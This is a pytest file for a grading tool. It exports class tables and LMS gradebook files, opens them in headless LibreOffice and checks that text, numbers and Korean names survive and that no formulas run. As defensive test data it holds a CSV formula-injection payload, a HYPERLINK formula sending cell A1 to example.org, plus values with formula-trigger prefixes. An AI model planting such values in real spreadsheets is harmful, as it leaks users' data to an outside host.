"""What is written for platforms and people, opened by a real spreadsheet program: LibreOffice without a window.

apt install libreoffice-calc
"""

from __future__ import annotations

import io
import shutil
import subprocess
from pathlib import Path

import openpyxl
import pytest

from grader.exchange import blackboard, brightspace, canvas, exported_table, gradescope_grades, moodle
from grader.exchange.class_table import MarkedStudent, class_csv, class_workbook
from grader.exchange.exported_table import ExportedMark, System
from tests.exchange import test_exported_table as exports

SOFFICE = shutil.which("soffice")
EVIL = '=HYPERLINK("http://example.org/"&A1,"김")'
STUDENTS = [
    MarkedStudent("0042", "김철수", "chulsoo", "c@uni.kr", "A", {"gates": ExportedMark(87.5, 100.0)}, 87.5),
    MarkedStudent("0043", EVIL, "@lee", "+l@uni.kr", "-1+1", {"gates": ExportedMark(None, 100.0, excused=True)}),
]


def filled(system: System, export: str | bytes) -> bytes:
    """The table of a platform, with a mark for its first student."""
    table = exported_table.parse(export if isinstance(export, bytes) else export.encode(), "export")
    row = exported_table.students(table, system)[0].line
    columns = {"gates": system.columns(table.rows)[0]}
    return exported_table.fill(table, system, columns, {row: {"gates": ExportedMark(50.0, 100.0)}}).content


FILES = {
    "own.csv": class_csv(STUDENTS, ["gates"]),
    "book.xlsx": class_workbook(STUDENTS, ["gates"]),
    "canvas.csv": filled(canvas.GRADEBOOK, exports.CANVAS),
    "moodle.csv": filled(moodle.WORKSHEET, exports.MOODLE),
    "blackboard.csv": filled(blackboard.GRADE_CENTRE, exports.BLACKBOARD),
    "brightspace.csv": filled(brightspace.GRADES, exports.BRIGHTSPACE.replace("Jane", "철수")),
    "gradescope.csv": filled(gradescope_grades.GRADES, exports.GRADESCOPE.replace("Jane", "철수")),
}


@pytest.mark.nightly
@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed (Debian's package libreoffice-calc)")
def test_libreoffice_opens_them(tmp_path: Path) -> None:
    """Korean is what it was, marks are numbers, and nothing is computed."""
    for name, content in FILES.items():
        (tmp_path / name).write_bytes(content)
    tab = ["blackboard.csv"]
    comma = [name for name in FILES if name.endswith(".csv") and name not in tab]
    # With a window it knows the byte-order mark; without one it has to be told: 76 is UTF-8, 65535 is UTF-16.
    for names, more in (
        (comma, ["--infilter=CSV:44,34,76"]),
        (tab, ["--infilter=CSV:9,34,65535"]),
        (["book.xlsx"], []),
    ):
        files = [str(tmp_path / name) for name in names]
        profile = f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"
        subprocess.run(
            [
                str(SOFFICE),
                profile,
                "--headless",
                *more,
                "--convert-to",
                "xlsx",
                "--outdir",
                tmp_path / "opened",
                *files,
            ],
            check=True,
            capture_output=True,
            timeout=300,
            env={"PATH": "/usr/bin:/bin", "LANG": "C.UTF-8", "HOME": str(tmp_path)},
        )
    for name in FILES:
        content = (tmp_path / "opened" / name).with_suffix(".xlsx").read_bytes()
        cells = [cell for sheet in openpyxl.load_workbook(io.BytesIO(content)) for row in sheet for cell in row]
        texts = {str(cell.value) for cell in cells}
        assert any("철수" in text for text in texts), (name, texts)
        assert [cell.value for cell in cells if cell.data_type == "f"] == [], name
        assert not any(text.startswith("\ufeff") for text in texts), name
        assert any(isinstance(cell.value, int | float) for cell in cells), name
